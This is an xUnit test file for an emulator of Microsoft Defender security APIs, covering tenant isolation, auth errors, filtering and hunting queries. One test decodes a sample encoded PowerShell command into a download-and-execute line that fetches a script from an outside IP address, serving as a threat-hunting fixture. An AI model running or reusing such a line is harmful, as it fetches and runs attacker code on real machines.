using System.Text.Json;
using DefenderMcp.Emulator.Control;

namespace DefenderMcp.Emulator.Tests;

public sealed class ApiTests(EmulatorFixture fixture) : IClassFixture<EmulatorFixture>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_token_only_ever_reads_its_own_tenant()
    {
        var contoso = await fixture.SecretTokenAsync("contoso");
        var fabrikam = await fixture.SecretTokenAsync("fabrikam");

        var a = await fixture.GetAsync("v1.0/security/incidents", contoso);
        var b = await fixture.GetAsync("v1.0/security/incidents", fabrikam);
        var aIds = a.Body.GetProperty("value").EnumerateArray().Select(i => i.GetProperty("id").GetString()).ToHashSet();
        var bIds = b.Body.GetProperty("value").EnumerateArray().Select(i => i.GetProperty("id").GetString()).ToList();
        var crossRead = await fixture.GetAsync($"v1.0/security/incidents/{bIds[0]}", contoso);

        Assert.NotEmpty(aIds);
        Assert.DoesNotContain(bIds, aIds.Contains);
        Assert.Equal(404, crossRead.Status);
        Assert.Equal("NotFound", crossRead.Body.GetProperty("error").GetProperty("code").GetString());
    }

    [Fact]
    public async Task Bad_tokens_get_401_and_missing_roles_get_403_in_each_api_shape()
    {
        var limited = await fixture.SecretTokenAsync("contoso", limited: true);
        var graphToken = await fixture.SecretTokenAsync("contoso");

        var noRole = await fixture.GetAsync("v1.0/security/alerts_v2", limited);
        var forged = await fixture.GetAsync("v1.0/security/alerts_v2", graphToken[..^4] + "AAAA");
        var wrongAudience = await fixture.GetAsync("api/machines", graphToken);

        Assert.Equal(403, noRole.Status);
        Assert.Contains("SecurityAlert.Read.All", noRole.Body.GetProperty("error").GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.True(noRole.Body.GetProperty("error").GetProperty("innerError").TryGetProperty("request-id", out _));
        Assert.Equal(401, forged.Status);
        Assert.Equal("InvalidAuthenticationToken", forged.Body.GetProperty("error").GetProperty("code").GetString());
        Assert.Equal(401, wrongAudience.Status);
        Assert.Equal("Unauthorized", wrongAudience.Body.GetProperty("error").GetProperty("code").GetString());
        Assert.True(wrongAudience.Body.GetProperty("error").TryGetProperty("target", out _));
    }

    [Fact]
    public async Task Incidents_filter_expand_and_page_with_next_links()
    {
        var token = await fixture.SecretTokenAsync("contoso");

        var first = await fixture.GetAsync("v1.0/security/incidents?$top=3&$expand=alerts", token);
        var next = first.Body.GetProperty("@odata.nextLink").GetString()!;
        var second = await fixture.GetAsync(next, token);
        var high = await fixture.GetAsync("v1.0/security/incidents?$filter=severity eq 'high' and status eq 'active'", token);
        var bad = await fixture.GetAsync("v1.0/security/incidents?$filter=displayName eq 'x'", token);

        Assert.Equal(3, first.Body.GetProperty("value").GetArrayLength());
        Assert.All(first.Body.GetProperty("value").EnumerateArray(), i => Assert.True(i.GetProperty("alerts").GetArrayLength() > 0));
        Assert.StartsWith(fixture.Emulator.BaseUri.ToString(), next, StringComparison.Ordinal);
        Assert.Equal(3, second.Body.GetProperty("value").GetArrayLength());
        Assert.NotEqual(first.Body.GetProperty("value")[0].GetProperty("id").GetString(), second.Body.GetProperty("value")[0].GetProperty("id").GetString());
        Assert.All(high.Body.GetProperty("value").EnumerateArray(), i => Assert.Equal("high", i.GetProperty("severity").GetString()));
        Assert.Equal(400, bad.Status);
    }

    [Fact]
    public async Task Machines_filter_by_tag_and_name_prefix_and_get_by_name()
    {
        var token = await fixture.SecretTokenAsync("fabrikam", "https://api.security.microsoft.com/.default");

        var dcs = await fixture.GetAsync("api/machines?$filter=machineTags/any(tag: tag eq 'DomainController')", token);
        var prefix = await fixture.GetAsync("api/machines?$filter=startswith(computerDnsName,'fbrk-srv')", token);
        var name = dcs.Body.GetProperty("value")[0].GetProperty("computerDnsName").GetString();
        var byName = await fixture.GetAsync($"api/machines/{name}", token);
        var missing = await fixture.GetAsync("api/machines/nope", token);

        Assert.Equal(2, dcs.Body.GetProperty("value").GetArrayLength());
        Assert.All(prefix.Body.GetProperty("value").EnumerateArray(), m => Assert.StartsWith("fbrk-srv", m.GetProperty("computerDnsName").GetString(), StringComparison.Ordinal));
        Assert.Equal(40, byName.Body.GetProperty("id").GetString()!.Length);
        Assert.Equal("ResourceNotFound", missing.Body.GetProperty("error").GetProperty("code").GetString());
    }

    [Theory]
    [InlineData("contoso")]
    [InlineData("fabrikam")]
    public async Task An_inactive_device_last_reported_a_week_ago_or_more_and_an_active_one_today(string tenant)
    {
        // The service calls a device Inactive when it has not reported for 7 days; the data had them seen minutes ago.
        var token = await fixture.SecretTokenAsync(tenant, "https://api.security.microsoft.com/.default");
        var machines = (await fixture.GetAsync("api/machines", token)).Body.GetProperty("value").EnumerateArray().ToList();
        var now = DateTimeOffset.UtcNow;
        DateTimeOffset Seen(JsonElement m, string name) => DateTimeOffset.Parse(m.GetProperty(name).GetString()!, System.Globalization.CultureInfo.InvariantCulture);

        Assert.Contains(machines, m => m.GetProperty("healthStatus").GetString() == "Inactive");
        Assert.All(machines, m =>
        {
            var age = now - Seen(m, "lastSeen");
            Assert.True(m.GetProperty("healthStatus").GetString() == "Inactive" ? age >= TimeSpan.FromDays(7) : age < TimeSpan.FromDays(1), $"{m.GetProperty("computerDnsName")}: {m.GetProperty("healthStatus")}, last seen {age.TotalHours:F0} h ago");
            Assert.True(Seen(m, "firstSeen") <= Seen(m, "lastSeen"));
        });
    }

    [Fact]
    public async Task Hunting_runs_the_subset_and_refuses_the_rest_with_a_400()
    {
        var token = await fixture.SecretTokenAsync("contoso");

        var powershell = await fixture.HuntAsync("DeviceProcessEvents | where ProcessCommandLine contains \"-EncodedCommand\" | project DeviceName, AccountName", token);
        var count = await fixture.HuntAsync("DeviceLogonEvents | where LogonType == 'Network' | count", token);
        var unsupported = await fixture.HuntAsync("DeviceInfo | mv-apply t = todynamic(MachineGroup) on (take 1)", token);
        var unknown = await fixture.HuntAsync("NoSuchTable | take 1", token);

        var rows = powershell.Body.GetProperty("results").EnumerateArray().ToList();
        Assert.Single(rows);
        Assert.Equal("adele.vance", rows[0].GetProperty("AccountName").GetString());
        Assert.Equal(["DeviceName", "AccountName"], powershell.Body.GetProperty("schema").EnumerateArray().Select(c => c.GetProperty("name").GetString()));
        Assert.True(count.Body.GetProperty("results")[0].GetProperty("Count").GetInt64() > 10);
        Assert.Equal("Int64", count.Body.GetProperty("schema")[0].GetProperty("type").GetString());
        Assert.Equal(400, unsupported.Status);
        Assert.Contains("mv-apply", unsupported.Body.GetProperty("error").GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Equal(400, unknown.Status);
        Assert.Contains("NoSuchTable", unknown.Body.GetProperty("error").GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_analyst_decodes_the_storys_encoded_powershell_with_parse_and_base64_and_render_is_ignored()
    {
        var token = await fixture.SecretTokenAsync("contoso");

        var decoded = await fixture.HuntAsync("""
            DeviceProcessEvents
            | where ProcessCommandLine has "-EncodedCommand"
            | parse ProcessCommandLine with * "-EncodedCommand " Encoded
            | extend Decoded = replace_string(base64_decode_tostring(Encoded), "\u0000", "")
            | project DeviceName, AccountName, Decoded
            | render table
            """, token);

        Assert.Equal(200, decoded.Status);
        var row = Assert.Single(decoded.Body.GetProperty("results").EnumerateArray());
        Assert.Equal("adele.vance", row.GetProperty("AccountName").GetString());
        Assert.Equal("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')", row.GetProperty("Decoded").GetString());
        Assert.Equal(["DeviceName", "AccountName", "Decoded"], decoded.Body.GetProperty("schema").EnumerateArray().Select(c => c.GetProperty("name").GetString()));
    }

    [Fact]
    public async Task The_timespan_limits_the_rows()
    {
        var token = await fixture.SecretTokenAsync("fabrikam");

        var day = await fixture.HuntAsync("DeviceProcessEvents | count", token, "P1D");
        var month = await fixture.HuntAsync("DeviceProcessEvents | count", token, "P30D");

        Assert.True(day.Body.GetProperty("results")[0].GetProperty("Count").GetInt64() < month.Body.GetProperty("results")[0].GetProperty("Count").GetInt64());
    }

    [Fact]
    public async Task Faults_are_scoped_counted_logged_and_reset()
    {
        var fabrikam = await fixture.SecretTokenAsync("fabrikam");
        var contoso = await fixture.SecretTokenAsync("contoso");
        await fixture.Control.AddFaultAsync(new FaultSpec { Status = 503, RetryAfterSeconds = 7, Count = 2, Tenant = "fabrikam", PathPattern = "alerts_v2" }, Ct);

        var first = await fixture.GetAsync("v1.0/security/alerts_v2?$top=1", fabrikam);
        var unaffected = await fixture.GetAsync("v1.0/security/alerts_v2?$top=1", contoso);
        var second = await fixture.GetAsync("v1.0/security/alerts_v2?$top=1", fabrikam);
        var third = await fixture.GetAsync("v1.0/security/alerts_v2?$top=1", fabrikam);
        var log = await fixture.Control.GetRequestsAsync(Ct);

        Assert.Equal((503, 200, 503, 200), (first.Status, unaffected.Status, second.Status, third.Status));
        Assert.Contains(log, r => r.Path == "/v1.0/security/alerts_v2" && r.Tenant == "fabrikam" && r.Status == 503);
        Assert.Contains(log, r => r.Path.EndsWith("/oauth2/v2.0/token", StringComparison.Ordinal) && r.Tenant == "contoso" && r.Status == 200);
        Assert.DoesNotContain(log, r => r.Path.StartsWith("/_emulator", StringComparison.Ordinal));

        await fixture.Control.AddFaultAsync(new FaultSpec { Status = 500, Count = 0 }, Ct);
        await fixture.Control.ResetAsync(Ct);
        Assert.Empty(await fixture.Control.GetRequestsAsync(Ct));
        Assert.Equal(200, (await fixture.GetAsync("v1.0/security/alerts_v2?$top=1", contoso)).Status);
    }
}
